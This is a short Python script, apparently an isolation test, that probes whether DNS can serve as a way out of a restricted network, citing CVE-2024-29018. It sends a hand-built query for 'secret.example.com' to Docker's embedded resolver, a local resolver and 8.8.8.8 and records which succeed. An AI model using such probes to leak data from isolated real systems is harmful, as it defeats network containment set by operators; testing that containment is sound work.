"""Names as a way out: resolvers, the engine's own among them (CVE-2024-29018).

ends: succeeded
"""

import socket

from hostile import attempt

QUERY = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\7example\3com\0\0\1\0\1"


def ask(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(1)
        asking.sendto(QUERY, (address, 53))
        return asking.recv(512)


attempt("a name", socket.getaddrinfo, "secret.example.com", 80)
for address in ("127.0.0.11", "127.0.0.53", "8.8.8.8"):
    attempt(address, ask, address)
